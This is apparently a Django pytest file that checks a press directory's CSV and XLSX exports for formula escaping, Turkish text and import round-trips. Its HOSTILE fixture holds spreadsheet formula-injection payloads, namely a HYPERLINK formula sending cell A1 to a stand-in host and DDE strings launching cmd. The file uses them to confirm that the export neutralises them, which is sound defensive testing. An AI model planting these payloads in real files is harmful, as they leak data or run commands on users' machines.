"""Spreadsheet exports of the press directory and clippings, through the admin listing:
no cell a spreadsheet would run as a formula, a BOM so Turkish Excel reads UTF-8, and an
export that imports back through the import screen with every column intact."""

import codecs
import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cms.roles import PRESS
from press.models import MediaOutlet, PressContact
from tests.factories.press import MediaOutletFactory, PressClippingFactory, PressContactFactory

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "equals": '=HYPERLINK("http://kotu.example/?x="&A1,"Tıkla")',
    "plus": "+90 532 000 00 01",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
LISTINGS = {
    "contacts": "/admin/press/presscontact/",
    "outlets": "/admin/press/mediaoutlet/",
    "clippings": "/admin/press/pressclipping/",
}


@pytest.fixture
def press_client(client, user_with_role):
    client.force_login(user_with_role(PRESS))
    return client


def export(client, listing, export_format="csv"):
    response = client.get(f"{listing}?export={export_format}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def rows(data: bytes):
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[len(codecs.BOM_UTF8) :].decode("utf-8"))))


@pytest.fixture
def hostile_records():
    # Phone fields hold 40 characters (PostgreSQL enforces it): cut to fit, still hostile.
    for key, value in HOSTILE.items():
        outlet = MediaOutletFactory(
            name=f"{value} {key}", address=value, phone=value[:40], responsible_manager=value
        )
        PressContactFactory(
            outlet=outlet, name=f"Ayşe {key}", notes=value, phone=HOSTILE["plus"], mobile=value[:40]
        )
        PressClippingFactory(outlet=outlet, headline=value, note=value, topic=value)


@pytest.mark.parametrize("listing", LISTINGS.values())
def test_no_exported_csv_cell_is_a_formula(press_client, hostile_records, listing):
    table = rows(export(press_client, listing))
    cells = [cell for row in table[1:] for cell in row]
    hostile_cells = [cell for cell in cells if cell[1:] in HOSTILE.values()]
    assert len(hostile_cells) >= len(HOSTILE)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert {cell for cell in hostile_cells} <= {"'" + value for value in HOSTILE.values()}


@pytest.mark.parametrize("listing", LISTINGS.values())
def test_no_exported_xlsx_cell_is_a_formula(press_client, hostile_records, listing):
    workbook = openpyxl.load_workbook(io.BytesIO(export(press_client, listing, "xlsx")))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert any(cell.value == HOSTILE["equals"] for cell in cells)
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []


def test_turkish_letters_survive_the_bom_and_the_headings_are_the_importers(press_client):
    MediaOutletFactory(name="Çağlayan Gazetesi", responsible_manager="Işıl Öztürk")
    table = rows(export(press_client, LISTINGS["outlets"]))
    assert table[0] == [
        "Ad",
        "Tür",
        "Kapsam",
        "Adres",
        "Telefon",
        "E-posta",
        "Web",
        "Sorumlu müdür",
        "Yayın aralığı",
    ]
    assert table[1][0] == "Çağlayan Gazetesi"
    assert table[1][7] == "Işıl Öztürk"


def import_file(client, kind, data):
    url = reverse("press_import", kwargs={"kind": kind})
    response = client.post(
        url, {"file": SimpleUploadedFile(f"{kind}.csv", data, content_type="text/csv")}
    )
    assert response.status_code == 200
    preview = response.context["preview"]
    assert preview.ok, [(row.line, row.errors) for row in preview.bad_rows]
    response = client.post(url, {"confirm": "1", "token": response.context["token"]})
    assert response.status_code == 302


CONTACT_FIELDS = [
    "name",
    "outlet_id",
    "role",
    "phone",
    "mobile",
    "email",
    "consent",
    "consent_date",
    "active",
    "notes",
]
OUTLET_FIELDS = [
    "name",
    "kind",
    "scope",
    "address",
    "phone",
    "email",
    "website",
    "responsible_manager",
    "rhythm_days",
]


@pytest.mark.indexed
def test_contacts_export_imports_back_with_every_column(press_client):
    outlet = MediaOutletFactory(name="Ege Postası")
    PressContactFactory(
        name="Çağrı Işık",
        outlet=outlet,
        role=PressContact.Role.EDITOR,
        phone="+90 232 000 00 00",
        mobile="=0532 000 00 01",
        email="cagri@ege.example",
        consent=True,
        consent_date=dt.date(2026, 11, 23),
        active=False,
        notes="@çarşamba: arayın\n-ikinci satır",
    )
    PressContactFactory(
        name="Ünal Şen",
        outlet=None,
        email="unal@example.com",
        consent=False,
        consent_date=None,
        phone="",
        notes="",
    )
    before = list(PressContact.objects.order_by("email").values(*CONTACT_FIELDS))
    data = export(press_client, LISTINGS["contacts"])
    PressContact.objects.all().delete()

    import_file(press_client, "contacts", data)

    assert list(PressContact.objects.order_by("email").values(*CONTACT_FIELDS)) == before


def test_outlets_export_imports_back_with_every_column(press_client):
    MediaOutletFactory(
        name="Çağlayan Radyo",
        kind="radio",
        scope="national",
        address="Gazi Bulvarı No: 10, İzmir",
        phone="+90 232 111 11 11",
        email="haber@caglayan.example",
        website="https://caglayan.example/",
        responsible_manager="Işıl Öztürk",
        rhythm_days=7,
    )
    MediaOutletFactory(name="=Kısa Ad", rhythm_days=None)
    before = list(MediaOutlet.objects.order_by("name").values(*OUTLET_FIELDS))
    data = export(press_client, LISTINGS["outlets"])
    MediaOutlet.objects.all().delete()

    import_file(press_client, "outlets", data)

    assert list(MediaOutlet.objects.order_by("name").values(*OUTLET_FIELDS)) == before


def test_a_negative_amount_stays_a_number_while_text_starting_with_minus_is_escaped():
    from decimal import Decimal

    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    from cms.exports import SafeExportMixin

    class View(SafeExportMixin, SpreadsheetExportMixin):
        pass

    view = View()
    assert view.preprocess_field_value("x", Decimal("-0.01"), "csv") == "-0.01"
    assert view.preprocess_field_value("x", "-1+2", "csv") == "'-1+2"
